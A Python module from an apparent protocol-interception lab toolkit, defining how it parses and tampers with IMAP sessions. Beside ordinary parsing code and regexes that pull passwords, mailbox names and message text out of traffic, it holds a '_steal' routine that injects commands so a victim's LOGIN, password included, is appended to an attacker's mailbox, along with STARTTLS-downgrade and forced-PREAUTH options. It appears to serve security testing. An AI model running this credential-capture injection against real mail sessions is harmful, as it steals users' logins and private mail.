"""IMAP: RFC 9051 and 3501, with literals that do not wait (RFC 7888), SASL-IR (RFC 4959) and IDLE (RFC 2177).

What the words mean is `imap_words`.
"""

import re
from base64 import b64decode
from collections.abc import Iterator

from labkit.dialects.base import SERVER, Dialect, Disclosed, Phrase
from labkit.dialects.framing.tagged_lines import CREDENTIAL, LITERAL, TaggedLineReader, TaggedLines
from labkit.dialects.imap_words import CAPABILITIES, COMMANDS, GREETINGS, REPLIES, explain
from labkit.dialects.writing import (
    Credentials,
    Injected,
    Writer,
    counted_on,
    first_word,
    lines,
    listed,
    offering,
    tagged_command,
    willing,
)

_COMMAND = re.compile(rb"([^\s*+]+)[ \t]+((?:UID +)?[A-Z]+)", re.IGNORECASE)
_UNKNOWN = "unknown command"
_DONE = re.compile(rb"DONE\s*$", re.IGNORECASE)
_BRINGS_MAIL = {"APPEND", "REPLACE", "UID REPLACE"}
_MAILBOX_AS_LITERAL = re.compile(rb"\S+ +(?:APPEND|(?:UID +)?REPLACE +\S+) +\{", re.IGNORECASE)
_UNTAGGED = re.compile(rb"\* +(?:\d+ +)?([A-Za-z]+)")
_TAGGED = re.compile(rb"([^\s*+]+) +(OK|NO|BAD)\b", re.IGNORECASE)
_ONE_LINE = re.compile(rb"\+|\S+ +(?:OK|NO|BAD|BYE|PREAUTH)\b", re.IGNORECASE)
"""Responses that end in text for people."""


_LINES = TaggedLines(
    after_invitation={"AUTHENTICATE": CREDENTIAL},
    go_aheads={"STARTTLS": "OK"},
    compresses={"COMPRESS": "OK"},
)


class _Reader(TaggedLineReader):
    """Follows one IMAP conversation. See `labkit.dialects.base.Reader`."""

    _lines = _LINES
    _longest = 1 << 20
    """The answer to SEARCH is one line, however many messages fit."""

    def _named(self, line: bytes) -> tuple[bytes, str]:
        match = _COMMAND.match(line)
        if match is None:
            return b"", _without_tag(line)
        header = match[1].endswith(b":")  # ``Connection: close`` of a browser that was diverted here
        return match[1], _UNKNOWN if header else _verb(match[2])

    def _has_mail(self, line: bytes, first: bool) -> bool:
        return self._verb in _BRINGS_MAIL and not (first and _MAILBOX_AS_LITERAL.match(line))

    def _is_one_line(self, response: bytes) -> bool:
        return _ONE_LINE.match(response) is not None

    def _response(self, data: bytes, has_literals: bool) -> Phrase:
        if data.startswith(b"+"):
            return Phrase(SERVER, "challenge" if self._invite() else "reply", "+", data)
        if match := _UNTAGGED.match(data):
            return self._untagged(match[1].decode().upper(), data, has_literals)
        if match := _TAGGED.match(data):
            status = match[2].decode().upper()
            return Phrase(SERVER, self._conclude(match[1], status), status, data)
        return Phrase(SERVER, "unknown", "unknown", data)

    def _beginning(self, data: bytes, has_literals: bool) -> Phrase:
        match = _UNTAGGED.match(data)
        name = match[1].decode().upper() if match else ""
        return (
            self._untagged(name, b"", has_literals) if name in REPLIES else Phrase(SERVER, "reply", "unfinished", b"")
        )

    def _untagged(self, name: str, data: bytes, has_literals: bool) -> Phrase:
        if name in GREETINGS and not self._spoken:
            return Phrase(SERVER, "greeting", name, data)
        if name == "FETCH" and has_literals:
            return Phrase(SERVER, "message", name, data)
        return Phrase(SERVER, "untagged", name if name in REPLIES else "unknown response", data)


def _verb(text: bytes) -> str:
    verb = " ".join(text.decode().upper().split())
    return verb if verb in COMMANDS else _UNKNOWN


def _without_tag(line: bytes) -> str:
    return "DONE" if _DONE.match(line) else _UNKNOWN


def _messages(data: bytes) -> list[tuple[int, int]]:
    """The literals of a FETCH response; the one of APPEND without the end of its line."""
    if not _UNTAGGED.match(data):
        return [(0, len(data.removesuffix(b"\n").removesuffix(b"\r")))]
    found = []
    end = data.find(b"\n") + 1
    while end and (literal := LITERAL.search(data, max(0, end - 25), end)):
        start, behind = end, end + int(literal[1])
        found.append((start, min(behind, len(data))))
        end = data.find(b"\n", behind) + 1
    return found


_GREETING = re.compile(rb"\* (?:OK|PREAUTH|BYE)[ \r]", re.IGNORECASE)
_FIRST = re.compile(rb"[^\s*+]+ (?:CAPABILITY|STARTTLS|LOGIN|AUTHENTICATE|ID|NOOP)\b", re.IGNORECASE)


def _recognises(server: bytes, client: bytes) -> bool:
    return _GREETING.match(server) is not None or (not server and _FIRST.match(client) is not None)


# ---- what commands and responses disclose


def _string(name: str, behind: str = r"\s*$") -> str:
    """An atom, a quoted string or a literal (RFC 9051 §4), as a group; `behind` is what may follow a literal."""
    return (
        rf'(?:"|\{{\d+\+?\}}\r?\n)?'
        rf'(?P<{name}>(?<=")(?:[^"\\\r\n]|\\.)*|(?<=\n)[^\r\n]*?(?={behind})|[^\s"{{()*%]+)"?'
    )


_LOGIN = re.compile(rb"\S+[ \t]+LOGIN", re.IGNORECASE)
_ASTRING = re.compile(rb'[ \t]*(?:"((?:[^"\\\r\n]|\\.)*)"?|\{(\d+)\+?\}\r?\n|([^\s"{]+))')


def _login(data: bytes) -> Iterator[Disclosed]:
    """The two strings of LOGIN (RFC 9051 §6.2.3); a literal has as many bytes as it announces, whatever they are."""
    begins = _LOGIN.match(data)
    at = begins.end() if begins else len(data)
    for what in ("user name", "password"):
        found = _ASTRING.match(data, at)
        if found is None:
            return
        start, end = found.span(found.lastindex)
        at = found.end()
        if found.lastindex == 2:
            start, at = at, min(at + int(found[2]), len(data))
            end = at
        value = re.sub(rb"\\(.)", rb"\1", data[start:end]) if found.lastindex == 1 else data[start:end]
        yield Disclosed(what, value, start, end)


_TAG = r"[^*\s]\S* +"
_FLAGS = r"(?P<flags>(?=[^()\r\n]*(?<=[(\s])[^\\()\s])[^()\r\n]+)"
"""Flags among which is a keyword, which a person or a program has chosen (RFC 9051 §2.3.2)."""
_STORED = rf"{_TAG}(?:UID +)?STORE +\S+ +(?:\([^)\r\n]*\) +)?[+-]?FLAGS(?:\.SILENT)? +\(?{_FLAGS}"
_MAILBOX = r"\S+ +[A-Z]+ +" + _string("mailbox")
_SEARCH = rf"(?s){_TAG}(?:UID +)?[A-Z]+ +(?P<search>\S(?:.*\S)?)"
_LISTED = r"\* +[A-Z]+ +\([^)]*\) +\S+ +" + _string("mailbox")
_ASKED_FOR = (
    rf"{_TAG}[A-Z]+ +(?:\([^)\r\n]*\) +)?(?:\"\"|\"?(?P<reference>(?<=\")[^\"\r\n]+|[^\s\"({{]+)\"?) +"
    r'(?:\(?(?:"|\{\d+\+?\}\r?\n)?(?![*%"\r\n]*(?:\s|$))(?P<pattern>(?<=")[^"\r\n]+|(?<=\n)[^\r\n]+|[^\s"{()]+))?'
)
_ACCESS = f"(?:{_MAILBOX}| +{_string('identifier')}(?: +[a-z0-9+-]+)?)"
_NOTE = rf"\S+ +[A-Z]+ +(?:\([^)\r\n]*\) +)?{_string('mailbox')}(?: +\(?(?P<note>[^\r\n)]+))?"
_CHARACTERS = r'(?>[^"\\]|\\.)*+'
_PEOPLE = rf'(?>\((?>[^()"]|"{_CHARACTERS}")*+\) ?)++'
_ADDRESSES = rf"(?>NIL|\({_PEOPLE}\))"
_QUOTED = rf'(?>NIL|"{_CHARACTERS}")'
"""Parts of an answer to FETCH, none of which is looked at twice, so that time grows with its length alone."""


def _either(name: str, kind: str) -> str:
    """A field of ENVELOPE as a group: NIL, or ``quoted``, or ``people``."""
    return {"quoted": rf'(?>NIL|"(?P<{name}>{_CHARACTERS})")', "people": rf"(?>NIL|\((?P<{name}>{_PEOPLE})\))"}[kind]


_ENVELOPE = " +".join(
    (
        _QUOTED,
        _either("subject", "quoted"),
        _either("from", "people"),
        _ADDRESSES,
        _ADDRESSES,
        *(_either(name, "people") for name in ("to", "cc", "bcc")),
        *(_either(name, "quoted") for name in ("in__reply__to", "message__id")),
    )
)
"""RFC 9051 §7.5.2: date, subject, from, sender, reply-to, to, cc, bcc, in-reply-to, message-id."""
_SAID_IN_QUOTES = r'(?=(?s:.*)"(?<=VIEW "|TEXT "|...[]> ] "))'
"""Whether a quoted string may be the text of a message. `re` looks for a quote from the end much faster than for the
words before it, and a message in a literal, of whatever size, seldom has such a one."""

_DISCLOSES = {
    "LOGIN": _login,
    "LIST": f"(?:{_LISTED}|{_ASKED_FOR})",
    "LSUB": f"(?:{_LISTED}|{_ASKED_FOR})",
    "STATUS": r"\S+ +STATUS +" + _string("mailbox", r"\s*\("),
    "APPEND": r"\S+ +APPEND +" + _string("mailbox", r"\s+[({\"]") + rf"(?: +\({_FLAGS})?",
    "STORE": _STORED,
    "UID STORE": _STORED,
    "FLAGS": rf"\* +FLAGS +\({_FLAGS}",
    "REPLACE": r"\S+ +REPLACE +\S+ +" + _string("mailbox", r"\s+[({\"]"),
    "UID REPLACE": r"\S+ +UID +REPLACE +\S+ +" + _string("mailbox", r"\s+[({\"]"),
    "RENAME": r"\S+ +RENAME +" + _string("mailbox", r"\s") + " +" + _string("new_mailbox"),
    "COPY": r"\S+ +COPY +\S+ +" + _string("mailbox"),
    "MOVE": r"\S+ +MOVE +\S+ +" + _string("mailbox"),
    "UID COPY": r"\S+ +UID +COPY +\S+ +" + _string("mailbox"),
    "UID MOVE": r"\S+ +UID +MOVE +\S+ +" + _string("mailbox"),
    **dict.fromkeys(("SEARCH", "UID SEARCH", "SORT", "UID SORT", "THREAD", "UID THREAD", "ESEARCH"), _SEARCH),
    "NOTIFY": rf"{_TAG}NOTIFY +SET +(?P<notify>[^\r\n]+)",
    "ID": r"\S+ +ID +\((?P<program>[^)]+)\)",
    "FETCH": (
        rf"(?:\* +\d+ +FETCH +(?=(?:.*?ENVELOPE +\({_ENVELOPE})?)(?=(?:[^\r\n]*?\bFLAGS +\({_FLAGS})?)"
        rf"(?:{_SAID_IN_QUOTES}(?s:.*?)"
        r'(?:PREVIEW|RFC822\.TEXT|BODY\[[^]"]*\](?:<\d+>)?) +"(?P<message>(?:[^"\\]|\\.)+)")?'
        r'|[^\r\n]*?"(?:FILE)?NAME\*?" +"(?P<attachment>(?:[^"\\]|\\.)+)")'
    ),
    **dict.fromkeys(
        ("SELECT", "EXAMINE", "CREATE", "DELETE", "SUBSCRIBE", "UNSUBSCRIBE", "GETQUOTAROOT", "QUOTAROOT", "RESETKEY"),
        _MAILBOX,
    ),
    **dict.fromkeys(("SETACL", "DELETEACL", "LISTRIGHTS", "ACL"), _ACCESS),
    **dict.fromkeys(("GETACL", "MYRIGHTS"), _MAILBOX),
    **dict.fromkeys(("GETMETADATA", "SETMETADATA", "METADATA"), _NOTE),
    **dict.fromkeys(("GENURLAUTH", "URLFETCH"), r"\S+ +[A-Z]+ +(?P<url>[^\r\n]+)"),
}
_NAMES_OF_MAILBOXES = ("mailbox", "new_mailbox", "reference", "pattern")

_SHIFTED = re.compile(rb"&([A-Za-z0-9+,]*)-")


def _modified_utf7(name: bytes) -> bytes:
    """A mailbox name in UTF-8 (RFC 3501 §5.1.3); what is not coded so stays as it is."""
    return _SHIFTED.sub(_unshifted, name) if b"&" in name else name


def _unshifted(run: re.Match[bytes]) -> bytes:
    coded = run[1].replace(b",", b"/")
    if not coded:
        return b"&"
    try:
        return b64decode(coded + b"=" * (-len(coded) % 4)).decode("utf-16-be").encode()
    except ValueError:
        return run[0]


def _steal(tag: str, account: Credentials, login: int) -> bytes:
    """The size of the message has to be known before: what the victim says up to the end of its LOGIN."""
    first = counted_on(tag)
    second = counted_on(first)
    third = counted_on(second)
    swallowed = len(f"{first} CAPABILITY\r\n{second} LOGIN ") + login
    return (
        tagged_command("CAPABILITY", first)
        + tagged_command(f"LOGIN {account.user} {account.password}", second)
        + tagged_command(f"APPEND INBOX {{{swallowed}}}", third)
    )


_ON_MESSAGES = ("FETCH", "STORE", "COPY", "MOVE", "EXPUNGE", "SEARCH", "SORT", "THREAD")
_ON_MAILBOXES = (
    *("SELECT", "EXAMINE", "LIST", "LSUB", "STATUS", "CREATE", "DELETE", "RENAME", "SUBSCRIBE", "UNSUBSCRIBE", "CLOSE"),
    *("SETACL", "DELETEACL", "SETQUOTA", "SETMETADATA"),
)
_WORKS = (*_ON_MAILBOXES, *_ON_MESSAGES, *(f"UID {verb}" for verb in _ON_MESSAGES))


def _preauth(greeting: bytes) -> bytes:
    return b"* PREAUTH" + greeting[greeting.find(b" ", 2) :]


def _corner(phrase: Phrase) -> bytes | None:
    """A greeting that makes no sense."""
    return b"* HELLO " + phrase.data[phrase.data.find(b" ", 2) + 1 :] if phrase.kind == "greeting" else None


WRITER = Writer(
    command=tagged_command,
    replies=lines(
        done="{tag} OK {text}",
        refused="{tag} BAD {text}",
        later="{tag} NO {text}",
        odd="+ {text}",
        go_ahead="{tag} OK {text}",
    ),
    willing=willing({"APPEND": b"+ OK\r\n"}, b"{tag} OK\r\n"),
    login=lambda user, password, tag: tagged_command(f"LOGIN {user} {password}", tag),
    capabilities=listed(
        rb"(?P<head>\* CAPABILITY |[^\r\n]*?\[CAPABILITY )(?P<list>[^\]\r\n]*)(?P<tail>[^\n]*\n)",
        lambda text: tuple(filter(None, text.split(" "))),
        " ".join,
        "* CAPABILITY IMAP4rev1 {list}\r\n{tag} OK CAPABILITY completed\r\n",
        unasked=True,
    ),
    tag=first_word,
    next_tag=counted_on,
    login_names=frozenset({"AUTH", "LOGINDISABLED"}),
    clear_login=("AUTH=PLAIN",),
    weaker_login=("AUTH=LOGIN",),
    upload="APPEND",
    older=("IMAP4",),  # RFC 1730 knows no STARTTLS
    preauth=_preauth,
    corner=_corner,
    injected=Injected("NOOP", r"mallory "),
    ask=lambda name, tag: tagged_command("CAPABILITY", tag),
    leave=lambda tag: tagged_command("LOGOUT", tag),
    passwords=offering(r"AUTH=(?:PLAIN|LOGIN)$", otherwise="LOGIN", unless="LOGINDISABLED"),
    welcome=r"\S+ OK",
    logged_in=Injected("STATUS INBOX (MESSAGES)", r"\* STATUS"),
    steal=_steal,
)

IMAP = Dialect(
    name="IMAP",
    source="RFC 9051, RFC 3501",
    explicit_ports=(143,),
    implicit_ports=(993,),
    ask="CAPABILITY",
    token="STARTTLS",
    upgrade="STARTTLS",
    go_ahead="OK",
    sections={"upgrade": "RFC 9051 §6.2.1", "forget": "RFC 9051 §6.2.1", "login": "RFC 9051 §6.2.3"},
    programs=("Dovecot",),
    also_answers=("OK", "BYE"),
    messages=_messages,
    sasl=r"\S+ +AUTHENTICATE +(?P<mechanism>\S+)(?: +(?P<initial>\S+))?",
    reader=_Reader,
    writes=WRITER,
    recognises=_recognises,
    explain=explain,
    tagged=True,
    logins=("LOGIN", "AUTHENTICATE"),
    delivers=("APPEND", "REPLACE", "UID REPLACE"),
    works=_WORKS,
    changes=(
        r"(?:CREATE|DELETE|RENAME|SUBSCRIBE|UNSUBSCRIBE|CLOSE|SETACL|DELETEACL|SETQUOTA|SETMETADATA"
        r"|(?:UID +)?(?:STORE|COPY|MOVE|EXPUNGE))\b"
    ),
    makes=("CREATE",),
    commands=COMMANDS,
    replies=REPLIES,
    capabilities=CAPABILITIES,
    discloses=_DISCLOSES,
    codings=dict.fromkeys(_NAMES_OF_MAILBOXES, _modified_utf7),
)
